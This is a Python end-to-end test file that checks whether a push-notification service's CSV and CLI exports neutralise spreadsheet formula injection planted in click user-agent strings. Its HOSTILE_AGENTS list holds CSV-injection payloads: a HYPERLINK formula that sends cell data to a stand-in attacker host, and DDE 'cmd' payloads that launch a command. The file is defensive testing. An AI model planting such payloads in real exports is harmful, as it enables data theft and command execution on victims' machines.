"""CSV exports never hand a spreadsheet a formula: whoever holds a tracked link can plant text in a
bot click's ``UserAgent``, and the interactions export (over HTTP and through `pushgate export`)
writes such a cell with a leading ``'`` (OWASP's rule for CSV injection)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner

from pushgate_cli.app import app as cli_app
from pushgate_local.runtime import LocalRuntime
from tests.e2e.registration_support import create_app
from tests.e2e.test_sends import create_active_message, seed, wait_for_completion

pytestmark = pytest.mark.stack

#: User agents a link's holder chooses; each contains "bot", so the click is stored as a bot's with it.
HOSTILE_AGENTS = (
    '=HYPERLINK("https://evil.example/?"&A2,"open") bot',
    "+1+cmd|' /C calc'!A0 bot",
    "-2+3 bot",
    "@SUM(1+1)*cmd|' /C calc'!A0 bot",
)


def plant_hostile_clicks(dev_stack: LocalRuntime, admin: httpx.Client, public: httpx.Client) -> tuple[str, str]:
    """A new org and message whose one tracked link was clicked by each hostile user agent."""
    assert dev_stack.simulator is not None
    org_id = admin.post("/admin/v1/orgs", json={"Name": "CSV org"}).json()["OrgId"]
    app = create_app(admin, org_id)
    population = seed(dev_stack, app, 1)  # the first seeded person consents to tracking, with one device
    message_id = create_active_message(admin, org_id)
    accepted = admin.post(
        f"/admin/v1/orgs/{org_id}/sends",
        json={
            "MobileAppId": app.app_id,
            "MessageId": message_id,
            "Recipients": [{"UserId": population.users[0], "TriggerData": {"order": "SO-1"}}],
        },
    )
    assert accepted.status_code == 202, accepted.text
    assert wait_for_completion(admin, org_id, accepted.json()["SendId"])["Sent"] == 1
    [notification] = dev_stack.simulator.notifications(token=population.tokens("valid")[0])
    payload = notification["payload"]
    data = payload.get("data") or payload["message"]["data"]
    assert data["link"].endswith(f"/l/{data['trackingId']}")
    for agent in HOSTILE_AGENTS:
        assert public.get(f"/l/{data['trackingId']}", headers={"user-agent": agent}).status_code == 302
    return org_id, message_id


@pytest.fixture(scope="module")
def planted(dev_stack: LocalRuntime, admin: httpx.Client, public: httpx.Client) -> tuple[str, str]:
    return plant_hostile_clicks(dev_stack, admin, public)


def _export(admin: httpx.Client, org_id: str, message_id: str, fmt: str) -> httpx.Response:
    response = admin.get(f"/admin/v1/orgs/{org_id}/insights/messages/{message_id}/interactions", params={"Format": fmt})
    assert response.status_code == 200, response.text
    return response


def _bot_agents(rows: list[dict[str, Any]]) -> set[str]:
    return {row["UserAgent"] for row in rows if row["InteractionType"] == "BotLinkClicked"}


def test_the_csv_export_neutralises_formula_cells_and_ndjson_keeps_the_text(
    admin: httpx.Client, planted: tuple[str, str]
) -> None:
    org_id, message_id = planted

    as_csv = _export(admin, org_id, message_id, "csv")
    as_ndjson = _export(admin, org_id, message_id, "ndjson")

    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert _bot_agents(rows) == {f"'{agent}" for agent in HOSTILE_AGENTS}
    # No cell of the file starts a formula; the other cells are as they were.
    assert not [cell for row in rows for cell in row.values() if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    sent = next(row for row in rows if row["InteractionType"] == "Sent")
    assert (sent["ProfileType"], sent["Platform"], sent["UserAgent"]) == ("Lead", "iOS", "")
    # NDJSON is data, not a spreadsheet: the user agents are exactly what the clients sent.
    records = [json.loads(line) for line in as_ndjson.text.splitlines()]
    assert _bot_agents(records) == set(HOSTILE_AGENTS)


def test_pushgate_export_writes_the_same_neutralised_csv(
    dev_stack: LocalRuntime, planted: tuple[str, str], tmp_path: Path
) -> None:
    org_id, message_id = planted
    env = {"PUSHGATE_CONFIG": str(tmp_path / "config.json"), "PUSHGATE_ORG": None, "COLUMNS": "200"}
    runner = CliRunner()
    local_json = str(dev_stack.config.state_dir / "local.json")
    logged_in = runner.invoke(cli_app, ["login", "--local", "--local-json", local_json], env=env)
    assert logged_in.exit_code == 0, logged_in.output

    output = tmp_path / "records.csv"
    exported = runner.invoke(cli_app, ["export", "message", message_id, "-o", str(output), "--org", org_id], env=env)

    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8"), newline="")))
    assert _bot_agents(rows) == {f"'{agent}" for agent in HOSTILE_AGENTS}
    assert len(rows) == 1 + len(HOSTILE_AGENTS)  # the Sent record and the bot clicks
